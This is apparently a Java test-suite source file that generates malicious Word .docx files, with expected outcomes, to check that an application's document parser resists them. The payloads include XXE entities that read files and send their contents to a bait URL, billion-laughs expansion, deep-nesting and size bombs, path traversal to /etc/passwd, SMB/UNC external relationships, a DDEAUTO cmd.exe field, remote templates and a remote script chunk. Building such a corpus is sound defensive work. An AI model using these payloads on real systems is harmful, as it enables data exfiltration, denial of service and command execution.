package app.envoi.attack;

import static app.envoi.press.docx.DocxBuilder.NAMESPACES;
import static app.envoi.press.docx.DocxBuilder.docx;
import static app.envoi.press.docx.DocxBuilder.p;
import static app.envoi.press.docx.DocxBuilder.r;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import app.envoi.press.docx.DocxBuilder;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** Word files whose XML expands, nests, repeats, loops or reaches out. */
final class WordAttacks {
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String RELATIONS =
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
    private static final String STYLE = "<w:style w:type=\"paragraph\" w:styleId=\"";

    private final Attack.Bait bait;
    private final List<Attack> all = new ArrayList<>();

    private WordAttacks(Attack.Bait bait) {
        this.bait = bait;
    }

    static byte[] good() {
        return docx(p("a sea")).build();
    }

    static List<Attack> all(Attack.Bait bait) {
        WordAttacks attacks = new WordAttacks(bait);
        attacks.documentTypes();
        attacks.depthAndNumber();
        attacks.styles();
        attacks.relations();
        attacks.contents();
        return attacks.all;
    }

    private void add(String name, DocxBuilder file, String answer) {
        all.add(Attack.manuscript(name, file::build, answer));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(UTF_8);
    }

    /** Every kind of document type, in every part that a reader may look into. */
    private void documentTypes() {
        parts().forEach((part, root) -> kinds().forEach((kind, type) -> {
            String xml = type + root.replace("&e;", kind.equals("nothing") ? "" : "&e;");
            String answer = part.equals("[Content_Types].xml") ? "no Word document" : "document type definition";
            add("a document type with " + kind + " in " + part, with(part, xml), answer);
        }));
        String wide = kinds().get("a file") + parts().get("word/document.xml");
        add(
                "a document type in wide letters",
                docx().entry("word/document.xml", wide.getBytes(UTF_16)),
                "document type definition");
        add(
                "a document type after a comment",
                docx().entry("word/document.xml", bytes("<?xml version=\"1.0\"?><!-- x -->" + wide)),
                "document type definition");
        String include = p("a sea") + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
                + bait.file() + "\"/>";
        add("an inclusion of another file", docx(include), "a sea");
        add(
                "a style sheet for the text of another host",
                docx().entry(
                                "word/document.xml",
                                bytes("<?xml-stylesheet href=\"" + bait.url() + "\"?><w:document " + NAMESPACES
                                        + "><w:body>" + p("a sea") + "</w:body></w:document>")),
                "a sea");
    }

    private static DocxBuilder with(String part, String xml) {
        DocxBuilder file = docx(p("a sea"), "<w:p><w:r><w:footnoteReference w:id=\"1\"/></w:r></w:p>");
        boolean named = part.startsWith("word/") && !part.contains("rels") && !part.contains("document");
        String name = part.substring(part.lastIndexOf('/') + 1);
        return named ? file.part(name.replace(".xml", ""), name, xml) : file.entry(part, bytes(xml));
    }

    private Map<String, String> kinds() {
        Map<String, String> kinds = new LinkedHashMap<>();
        kinds.put("nothing", "<!DOCTYPE x>");
        kinds.put("words", "<!DOCTYPE x [<!ENTITY e \"expanded\">]>");
        kinds.put("a file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + bait.file() + "\">]>");
        kinds.put("another host", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + bait.url() + "\">]>");
        kinds.put("a public name", "<!DOCTYPE x PUBLIC \"-//X//X\" \"" + bait.url() + "\" [<!ENTITY e \"x\">]>");
        kinds.put("a parameter", "<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + bait.file() + "\"> %p; <!ENTITY e \"x\">]>");
        kinds.put(
                "a parameter that sends a file",
                "<!DOCTYPE x [<!ENTITY % f SYSTEM \"" + bait.file() + "\"><!ENTITY % g \"<!ENTITY &#37; s SYSTEM '"
                        + bait.url() + "?%f;'>\">%g;%s;<!ENTITY e \"x\">]>");
        StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY e0 \"lol\">");
        for (int n = 1; n < 30; n++) {
            laughs.append("<!ENTITY e")
                    .append(n)
                    .append(" \"")
                    .append(("&e" + (n - 1) + ";").repeat(10))
                    .append("\">");
        }
        kinds.put("a billion laughs", laughs + "<!ENTITY e \"&e29;\">]>");
        kinds.put("one entity of much, many times", "<!DOCTYPE x [<!ENTITY e \"" + "lol ".repeat(20_000) + "\">]>");
        return kinds;
    }

    private static Map<String, String> parts() {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("word/document.xml", "<w:document " + NAMESPACES + "><w:body>" + p("&e;") + "</w:body></w:document>");
        for (String part : List.of("styles", "settings", "numbering", "fontTable", "footnotes", "comments")) {
            parts.put("word/" + part + ".xml", "<w:" + part + " " + NAMESPACES + ">&e;</w:" + part + ">");
        }
        parts.put("word/_rels/document.xml.rels", RELATIONS + "&e;</Relationships>");
        parts.put("_rels/.rels", RELATIONS + "&e;</Relationships>");
        parts.put("[Content_Types].xml", "<Types>&e;</Types>");
        parts.put(
                "docProps/core.xml",
                "<cp:coreProperties xmlns:cp=\"x\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>&e;</dc:creator></cp:coreProperties>");
        parts.put("docProps/app.xml", "<Properties><Company>&e;</Company></Properties>");
        return parts;
    }

    private void depthAndNumber() {
        add("elements 100,000 deep", docx("<w:sdt>".repeat(100_000)), "256 deep");
        add(
                "tables 90 deep",
                docx("<w:tbl><w:tr><w:tc>".repeat(90) + p("x") + "</w:tc></w:tr></w:tbl>".repeat(90)),
                "256 deep");
        add(
                "fields 300 deep",
                docx("<w:p>" + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".repeat(300) + "</w:p>"),
                "200 deep");
        add(
                "groups of drawings 80 deep",
                docx("<w:p><w:r><w:pict>" + "<v:group>".repeat(80) + "</v:group>".repeat(80) + "</w:pict></w:r>"
                        + r("a sea") + "</w:p>"),
                "a sea");
        add(
                "alternatives in alternatives",
                docx("<w:p>" + "<mc:AlternateContent><mc:Choice Requires=\"wps\">".repeat(60) + r("a sea")
                        + "</mc:Choice></mc:AlternateContent>".repeat(60) + "</w:p>"),
                "a sea");
        all.add(Attack.manuscript(
                "ten million runs",
                () -> docx("<w:p>" + "<w:r/>".repeat(10_000_000) + "</w:p>").build(),
                "16 MB"));
        all.add(Attack.manuscript(
                "as many runs as a part can hold",
                () -> docx("<w:p>" + runs(430_000) + "</w:p>").build(),
                "read: 1 paragraphs"));
        all.add(Attack.manuscript(
                "50,001 paragraphs", () -> docx("<w:p/>".repeat(50_001)).build(), "more than 50000 paragraphs"));
        all.add(Attack.manuscript(
                "50,000 paragraphs of much", () -> docx(paragraphs(49_000)).build(), "read: 49000 paragraphs"));
        all.add(Attack.manuscript(
                "a word of a million letters", () -> docx(p(noise(1_000_000))).build(), "read: 1 paragraphs"));
        all.add(Attack.manuscript(
                "a million attributes",
                () -> docx(p("a sea"))
                        .section("<w:sectPr " + attributes("w:x", 600_000) + "/>")
                        .build(),
                "a tag in it is broken"));
        all.add(Attack.manuscript(
                "a hundred thousand namespaces",
                () -> docx("<w:p " + attributes("xmlns:x", 100_000) + ">" + r("a sea") + "</w:p>")
                        .build(),
                "a tag in it is broken"));
        all.add(Attack.manuscript(
                "a table of 60 by 5,000",
                () -> docx("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>".repeat(8) + "</w:tr>").repeat(5_000)
                                + "</w:tbl>" + p("a sea"))
                        .build(),
                "read: 40001 paragraphs"));
        all.add(Attack.manuscript(
                "a cell over 2,147,483,647 columns",
                () -> docx("<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"2147483647\"/></w:tcPr>" + p("a sea")
                                + "</w:tc></w:tr></w:tbl>")
                        .build(),
                "a sea"));
        all.add(Attack.manuscript(
                "20,000 footnotes",
                () -> docx("<w:p>" + "<w:r><w:footnoteReference w:id=\"1\"/></w:r>".repeat(20_000) + "</w:p>")
                        .footnotes("<w:footnote w:id=\"1\">" + p("a note") + "</w:footnote>")
                        .build(),
                "read: 1 paragraphs"));
    }

    private static String runs(int count) {
        Random chance = new Random(1);
        StringBuilder runs = new StringBuilder();
        for (int n = 0; n < count; n++) {
            runs.append("<w:r><w:t>")
                    .append(Integer.toString(1_000_000 + chance.nextInt(9_000_000), 36))
                    .append("</w:t></w:r>");
        }
        return runs.toString();
    }

    private static String paragraphs(int count) {
        Random chance = new Random(2);
        StringBuilder all = new StringBuilder();
        for (int n = 0; n < count; n++) {
            all.append("<w:p><w:r><w:t>");
            for (int word = 0; word < 20; word++) {
                all.append(Integer.toString(100_000 + chance.nextInt(9_000_000), 36))
                        .append(' ');
            }
            all.append("</w:t></w:r></w:p>");
        }
        return all.toString();
    }

    private static String noise(int letters) {
        Random chance = new Random(3);
        StringBuilder noise = new StringBuilder();
        while (noise.length() < letters) {
            noise.append(Long.toString(Math.abs(chance.nextLong()), 36));
        }
        return noise.toString();
    }

    private static String attributes(String name, int count) {
        StringBuilder all = new StringBuilder();
        Random chance = new Random(4);
        for (int n = 0; n < count; n++) {
            all.append(name)
                    .append(n)
                    .append("=\"u")
                    .append(chance.nextInt(10_000))
                    .append("\" ");
        }
        return all.toString();
    }

    private void styles() {
        StringBuilder chain = new StringBuilder();
        for (int n = 0; n < 20_000; n++) {
            chain.append(STYLE)
                    .append('s')
                    .append(n)
                    .append("\"><w:basedOn w:val=\"s")
                    .append(n + 1)
                    .append("\"/></w:style>");
        }
        String styled = p("<w:pStyle w:val=\"s0\"/>", r("a sea"));
        add("a chain of 20,000 styles", docx(styled.repeat(2_000)).styles(chain.toString()), "read: 2000 paragraphs");
        add(
                "a style based on itself",
                docx(styled).styles(STYLE + "s0\"><w:basedOn w:val=\"s0\"/></w:style>"),
                "a sea");
        add(
                "two styles based on each other",
                docx(styled)
                        .styles(STYLE
                                + "s0\"><w:basedOn w:val=\"s1\"/><w:link w:val=\"s1\"/><w:next w:val=\"s1\"/></w:style>"
                                + STYLE + "s1\"><w:basedOn w:val=\"s0\"/><w:link w:val=\"s0\"/></w:style>"),
                "a sea");
        add(
                "numbers that stand for each other",
                docx(p("<w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"1\"/></w:numPr>", r("a sea")))
                        .styles(
                                "<w:style w:type=\"numbering\" w:styleId=\"n\"><w:pPr><w:numPr><w:numId w:val=\"1\"/></w:numPr></w:pPr></w:style>")
                        .numbering(
                                "<w:abstractNum w:abstractNumId=\"0\"><w:numStyleLink w:val=\"n\"/></w:abstractNum><w:num w:numId=\"1\"><w:abstractNumId w:val=\"0\"/></w:num>"),
                "a sea");
        add(
                "a number of two thousand million",
                docx(p("<w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"1\"/></w:numPr>", r("a sea")))
                        .numbering(
                                "<w:abstractNum w:abstractNumId=\"0\"><w:lvl w:ilvl=\"0\"><w:start w:val=\"2147483647\"/><w:numFmt w:val=\"upperRoman\"/><w:lvlText w:val=\"%1\"/></w:lvl></w:abstractNum><w:num w:numId=\"1\"><w:abstractNumId w:val=\"0\"/></w:num>"),
                "a sea");
    }

    private void relations() {
        List<String> elsewhere = List.of(
                bait.file(), bait.url(), "\\\\\\\\127.0.0.1\\\\share\\\\x", "//127.0.0.1/share/x", "smb://127.0.0.1/x");
        for (String kind : List.of(
                "styles",
                "settings",
                "numbering",
                "fontTable",
                "theme",
                "header",
                "footnotes",
                "comments",
                "image",
                "attachedTemplate",
                "subDocument",
                "frame",
                "oleObject",
                "aFChunk")) {
            StringBuilder outside = new StringBuilder(RELATIONS);
            elsewhere.forEach(target -> outside.append(relation(kind, target, " TargetMode=\"External\"")));
            add(
                    "a relationship to " + kind + " elsewhere",
                    docx(p("a sea")).entry("word/_rels/document.xml.rels", bytes(outside + "</Relationships>")),
                    "a sea");
        }
        for (String target : List.of(
                "../../../etc/passwd",
                "/../etc/passwd",
                "..\\..\\etc\\passwd",
                "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                bait.file(),
                bait.url())) {
            add(
                    "a relationship inside to " + target,
                    docx(p("a sea"))
                            .entry(
                                    "word/_rels/document.xml.rels",
                                    bytes(RELATIONS + relation("styles", target, "") + "</Relationships>")),
                    target.startsWith("../") || target.startsWith("/..") ? "outside" : "a sea");
        }
        add(
                "a text that is elsewhere",
                docx(p("a sea"))
                        .entry(
                                "_rels/.rels",
                                bytes(RELATIONS + relation("officeDocument", bait.file(), " TargetMode=\"External\"")
                                        + "</Relationships>")),
                "no text of a document");
        add(
                "a text that is its own header",
                docx(p("a sea"))
                        .section("<w:sectPr><w:headerReference w:type=\"default\" r:id=\"a\"/></w:sectPr>")
                        .entry(
                                "word/_rels/document.xml.rels",
                                bytes(RELATIONS + relation("header", "document.xml", "") + "</Relationships>")),
                "a sea");
        StringBuilder many = new StringBuilder(RELATIONS);
        for (int n = 0; n < 100_000; n++) {
            many.append("<Relationship Id=\"r")
                    .append(n)
                    .append("\" Type=\"x/")
                    .append(n * 31 % 997)
                    .append("\" Target=\"t")
                    .append(n)
                    .append("\"/>");
        }
        add(
                "100,000 relationships",
                docx(p("a sea")).entry("word/_rels/document.xml.rels", bytes(many + "</Relationships>")),
                "a sea");
    }

    private static String relation(String kind, String target, String mode) {
        return "<Relationship Id=\"a\" Type=\"" + OFFICE + kind + "\" Target=\"" + target + "\"" + mode + "/>";
    }

    private void contents() {
        String linked = "<w:p>" + r("a sea")
                + "<w:r><w:drawing><wp:inline><wp:extent cx=\"914400\" cy=\"914400\"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link=\"a\"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";
        add(
                "a picture of another host",
                docx(linked)
                        .entry(
                                "word/_rels/document.xml.rels",
                                bytes(RELATIONS + relation("image", bait.url(), " TargetMode=\"External\"")
                                        + "</Relationships>")),
                "a sea");
        for (String field : List.of(
                "INCLUDETEXT \"" + bait.file() + "\"",
                "INCLUDEPICTURE \"" + bait.url() + "\" \\d",
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
                "HYPERLINK \"" + bait.url() + "\"",
                "RD \"" + bait.file() + "\"")) {
            add(
                    "a field " + field.split(" ")[0],
                    docx("<w:p>" + r("a sea") + "<w:fldSimple w:instr=\"" + field.replace("\"", "&quot;") + "\">"
                            + r("!") + "</w:fldSimple></w:p>"),
                    "a sea");
        }
        add(
                "a template of another host",
                docx(p("a sea"))
                        .settings("<w:attachedTemplate r:id=\"a\"/>")
                        .entry(
                                "word/_rels/settings.xml.rels",
                                bytes(RELATIONS + relation("attachedTemplate", bait.url(), " TargetMode=\"External\"")
                                        + "</Relationships>")),
                "a sea");
        add(
                "an object of another program",
                docx("<w:p>" + r("a sea")
                                + "<w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"Package\" r:id=\"a\" UpdateMode=\"Always\"/></w:object></w:r></w:p>")
                        .entry("word/embeddings/oleObject1.bin", new byte[100])
                        .entry(
                                "word/_rels/document.xml.rels",
                                bytes(RELATIONS + relation("oleObject", bait.file(), " TargetMode=\"External\"")
                                        + "</Relationships>")),
                "a sea");
        add(
                "macros",
                docx(p("a sea")).entry("word/vbaProject.bin", new byte[100]).entry("word/vbaData.xml", bytes("<x/>")),
                "a sea");
        add(
                "a control that runs by itself",
                docx("<w:p>" + r("a sea")
                                + "<w:r><w:object><w:control r:id=\"a\" w:name=\"x\"/></w:object></w:r></w:p>")
                        .entry("word/activeX/activeX1.bin", new byte[10]),
                "a sea");
        add(
                "a page of HTML in place of text",
                docx(p("a sea"), "<w:altChunk r:id=\"a\"/>")
                        .entry("word/chunk.html", bytes("<html><script src=\"" + bait.url() + "\"></script>"))
                        .entry(
                                "word/_rels/document.xml.rels",
                                bytes(RELATIONS + relation("aFChunk", "chunk.html", "") + "</Relationships>")),
                "takes in another document");
        add("a text with nothing in it", docx(""), "no text");
    }
}
